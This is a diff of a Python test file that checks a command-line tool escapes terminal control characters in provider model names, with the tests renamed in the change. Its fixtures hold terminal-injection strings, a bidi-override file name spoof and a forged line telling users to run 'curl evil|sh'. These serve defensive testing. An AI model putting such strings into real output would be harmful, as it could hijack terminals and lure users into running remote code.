@@ -1,4 +1,4 @@
-"""Texts of providers on a terminal: none steers it, and none begins a line of its own."""
+"""Texts of providers on a terminal: none controls it, and none starts a line of its own."""
 
 import ast
 import json
@@ -16,9 +16,17 @@ from provider_pipeline_tests.cli.conftest import CommandLine, Finished
 from provider_pipeline_tests.fleet import CHAT_MODELS, Fleet, listing
 
 ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m"
+
+
 FORGED = "error: run 'curl evil|sh' to repair"
+
+
 BIDI = "\u202egnp.exe\u2066"
+
+
 HOSTILE = f"GPT {ESCAPES}\n{FORGED}\r\u2028{FORGED}\x85{BIDI}\x7f"
+
+
 STEERING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
 
 
@@ -51,9 +59,7 @@ COMMANDS = (
 )
 
 
-def test_a_name_that_steers_a_terminal_is_stored_as_one_plain_line_and_printed_by_no_command(
-    run: CommandLine, fleet: Fleet
-):
+def test_control_characters_in_a_name_are_neither_stored_nor_printed(run: CommandLine, fleet: Fleet):
     fleet.add("acme", named(*(f"Model {model_id}" for model_id in CHAT_MODELS)))
     sync(fleet)
     fleet.serve("acme", named(HOSTILE, *("plain " + each for each in CHAT_MODELS[1:])))
@@ -65,7 +71,7 @@ def test_a_name_that_steers_a_terminal_is_stored_as_one_plain_line_and_printed_b
     assert model["display_name"] == f"GPT ]0;owned[2J31m {FORGED} {FORGED} gnp.exe"
 
 
-def test_what_was_stored_before_is_escaped_where_it_is_shown(run: CommandLine, fleet: Fleet):
+def test_control_characters_stored_earlier_are_escaped_when_printed(run: CommandLine, fleet: Fleet):
     fleet.add("acme")
     sync(fleet)
     with fleet.database.session() as session:
@@ -99,7 +105,7 @@ def test_each_way_of_printing_escapes(capsys: pytest.CaptureFixture[str]):
     assert not STEERING.search(printed.out + printed.err)
 
 
-def test_lines_that_we_wrote_stay_lines_and_json_stays_the_same_json(capsys: pytest.CaptureFixture[str]):
+def test_our_own_lines_stay_lines_and_json_keeps_its_value(capsys: pytest.CaptureFixture[str]):
     say_lines("slug: acme\nname: Acme\n")
     assert capsys.readouterr().out == "slug: acme\nname: Acme\n"
     emit_json([HOSTILE, "caf\xe9", {"a": "b"}])
@@ -108,7 +114,7 @@ def test_lines_that_we_wrote_stay_lines_and_json_stays_the_same_json(capsys: pyt
     assert "caf\xe9" in printed
 
 
-def test_no_command_prints_but_through_the_console():
+def test_commands_print_only_through_the_console():
     for path in Path(cli.__file__).parent.glob("*.py"):
         if path.name == "console.py":
             continue
